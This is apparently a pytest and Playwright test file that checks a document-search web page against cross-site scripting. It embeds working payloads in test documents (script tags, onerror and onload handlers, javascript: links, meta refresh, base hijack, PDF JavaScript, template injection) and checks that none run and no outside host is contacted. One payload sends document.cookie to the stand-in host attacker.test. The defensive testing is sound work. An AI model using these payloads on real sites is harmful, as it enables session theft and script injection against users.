"""Documents and people that attack the page: nothing of theirs runs, and nothing is fetched."""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import quote, urlsplit

import httpx
import pytest
from playwright.sync_api import Browser, Error

from tests.loaders.office_files import docx, paragraph
from tests.loaders.pdf_files import make_pdf, print_lines
from tests.server.page.conftest import Visit, indexed, served

STRIKE = "window.struck=1;fetch('http://attacker.test/'+document.cookie)"
ATTACKS = {
    "script": f"<script>{STRIKE}</script>",
    "image": f'<img src=x onerror="{STRIKE}">',
    "remote image": '<img src="http://attacker.test/pixel.png">',
    "picture in vectors": f'<svg onload="{STRIKE}"><animate onbegin="{STRIKE}" /></svg>',
    "style": "<style>@import url(http://attacker.test/x.css);body{display:none}</style>",
    "link": f'<a href="javascript:{STRIKE}">here</a>',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://attacker.test/">',
    "base": '<base href="http://attacker.test/">',
    "frame": '<iframe src="//attacker.test/" srcdoc="<script>parent.struck=1</script>"></iframe>',
    "form": '<form action="http://attacker.test/" id=f><button autofocus onfocus="f.submit()">',
    "object": '<object data="http://attacker.test/x.swf"></object><embed src="//attacker.test/x">',
    "details": f'<details open ontoggle="{STRIKE}">',
    "template": "{{constructor.constructor('window.struck=1')()}}${window.struck=1}",
    "end of a script": f"</script><script>{STRIKE}</script>",
    "end of an attribute": f'" onmouseover="{STRIKE}" x=\'',
    "direction": "\u202etxt.exe\u202c",
}
"""What is put into each kind of document, and into questions."""


def files() -> dict[str, str | bytes]:
    """A document for each attack and kind; what is asked about is beside the attack."""
    found: dict[str, str | bytes] = {}
    for number, attack in enumerate(ATTACKS.values()):
        found[f"note{number}.md"] = (
            f"# Note {number} {attack}\n\nThe zebra{number} sleeps at {number} o'clock {attack} "
            f"every day.\n\n{attack}\n"
        )
        found[f"web{number}.html"] = (
            f"<html><head><title>{attack}</title></head><body>{attack}"
            f"<p>The walrus{number} swims at {number} o'clock {attack} every day.</p></body></html>"
        )
        found[f"table{number}.csv"] = (
            f'Animal,Hour\n"Ferret{number} {attack.replace(chr(34), chr(34) * 2)}",{number}\n'
        )
    link = f'<w:hyperlink w:anchor="javascript:{STRIKE}"><w:r><w:t>here</w:t></w:r></w:hyperlink>'
    found["letter.docx"] = docx(paragraph("The okapi wakes at six.") + f"<w:p>{link}</w:p>")
    found["letter.eml"] = (
        "From: a@example.org\nTo: b@example.org\nSubject: Yaks\nContent-Type: text/html\n\n"
        f"<p>The yak eats at seven.</p>{ATTACKS['script']}{ATTACKS['image']}\n"
    )
    found["drawing.svg"] = (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{STRIKE}">'
        f"<text>The lynx hunts at night.</text><script>{STRIKE}</script></svg>"
    )
    found["leaflet.pdf"] = make_pdf(
        [print_lines(60, 700, "The heron fishes at dawn.", size=12)],
        page="/MediaBox [0 0 600 800] /Annots [5 0 R]",
        catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.struck=1) >>",
        objects=[
            "<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI "
            "/URI (http://attacker.test/) >> /AA << /PO << /S /JavaScript /JS (app.alert\\(2\\)) "
            ">> >> >>"
        ],
    )
    found["<img src=x onerror=alert(1)>.md"] = "# Name\n\nThe gecko climbs at noon.\n"
    return found


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    zoo = indexed(tmp_path_factory.mktemp("zoo"), files())
    with served(tmp_path_factory.mktemp("state"), zoo=zoo) as address:
        yield address


@pytest.fixture
def watched(visit: Visit) -> Iterator[Visit]:
    """The page; at the end nothing has run, nothing was fetched from elsewhere, nothing opened."""
    visit.page.on("dialog", lambda dialog: visit.complaints.append(f"dialog: {dialog.message}"))
    visit.page.on("popup", lambda popup: visit.complaints.append(f"popup: {popup.url}"))
    visit.open()
    yield visit
    page = visit.page
    assert page.evaluate("window.struck") is None
    # That there is no such collection is told on the page, and by the browser to its console.
    refused = "error: Failed to load resource: the server responded with a status of 40"
    assert [one for one in visit.complaints if not one.startswith(refused)] == []
    assert visit.hosts == {urlsplit(visit.address).netloc}
    own = ("", "page", "me", "ask", "leaf", "show", "documents", "index", "unanswered", "notices")
    assert {urlsplit(one.url).path.split("/")[1] for one in visit.requests} <= set(own)
    assert page.url.startswith(visit.address)
    assert page.locator("#question, .view").first.is_visible()
    for name in (
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "img",
        "svg",
        "base",
        "meta[http-equiv]",
    ):
        assert page.locator(f"body {name}").count() == 0, name
    assert page.locator("form:not(.ask, .telling)").count() == 0
    links = page.locator("a").evaluate_all("(all) => all.map((one) => one.getAttribute('href'))")
    assert [link for link in links if not link.startswith("#")] == []


@pytest.mark.parametrize("kind", ["zebra", "walrus", "ferret"])
def test_what_attacks_in_a_document_is_text_in_its_quote_and_in_its_text(
    watched: Visit, kind: str
) -> None:
    page = watched.page
    for number in range(len(ATTACKS)):
        verb = {"zebra": "sleep", "walrus": "swim"}.get(kind)
        question = f"When does the {kind}{number} {verb}?" if verb else f"Hour of {kind}{number}?"
        watched.ask(question)
        link = ".reply .place:visible"
        if page.locator(link).count() == 0:
            page.click(".nearest summary")
        page.locator(link).first.click()
        page.wait_for_selector(".source .leaf")
        page.keyboard.press("Escape")


@pytest.mark.parametrize(
    ("question", "opened"),
    [
        ("When does the okapi wake?", ".source mark"),
        ("When does the yak eat?", ".source mark"),
        ("When does the lynx hunt?", ".source .leaf"),
        ("When does the heron fish?", ".source .box"),
        ("When does the gecko climb?", ".source mark"),
    ],
)
def test_nothing_of_a_file_acts_when_it_is_opened(
    watched: Visit, question: str, opened: str
) -> None:
    watched.ask(question)
    watched.page.locator(".reply .place").first.click()
    watched.page.wait_for_selector(opened)


def test_nothing_acts_in_the_list_of_documents_and_of_questions(watched: Visit) -> None:
    page = watched.page
    for attack in ATTACKS.values():
        told = {"collection": "zoo", "question": f"What is a {attack} quagga?", "note": attack}
        httpx.post(f"{watched.address}notices", json=told).raise_for_status()
    page.goto(f"{watched.address}#unanswered")
    page.wait_for_selector("tbody tr")
    assert page.locator("tbody tr").count() == len(ATTACKS)
    page.goto(f"{watched.address}#documents")
    page.wait_for_selector("tbody tr >> text=.svg")


def test_nothing_acts_that_stands_in_a_link(watched: Visit) -> None:
    page = watched.page
    for attack in ATTACKS.values():
        said = quote(attack, safe="")
        page.goto(f"{watched.address}#q={said}&collection={said}&document={said}&after={said}")
        page.wait_for_selector(".reply, .ask .fault:visible")
        page.goto(f"{watched.address}#show={said}&collection={said}&at=0,5")
        page.wait_for_selector(".source .fault:visible")


def test_the_policy_of_the_page_makes_no_string_into_markup_or_script(
    browser: Browser, address: str
) -> None:
    attempts = (
        "document.body.innerHTML = '<img src=x onerror=window.struck=1>'",
        "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
        "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
        "setTimeout('window.struck=1', 0)",
        "new Worker('data:text/javascript,1')",
    )
    with browser.new_context() as context:
        page = Visit(context, address).open()
        for attempt in attempts:
            with pytest.raises(Error, match=r"Trusted(HTML|Script)"):
                page.evaluate(f"() => {{ {attempt} }}")

        assert page.evaluate("window.struck") is None


def test_no_other_site_may_frame_the_page_or_be_sent_a_form(browser: Browser, address: str) -> None:
    with browser.new_context() as context:
        page = Visit(context, address).open()
        said: list[str] = []
        page.on("console", lambda one: said.append(one.text))

        page.evaluate(
            """() => {
              const form = document.createElement("form");
              form.action = "http://attacker.test/";
              document.body.append(form);
              form.submit();
            }"""
        )
        page.wait_for_timeout(100)
        framing = context.new_page()
        framing.goto("about:blank")
        framing.set_content(f'<iframe src="{address}"></iframe>')
        framing.wait_for_timeout(300)

        assert page.url == address
        assert "form-action" in " ".join(said)
        assert framing.frames[1].url != address
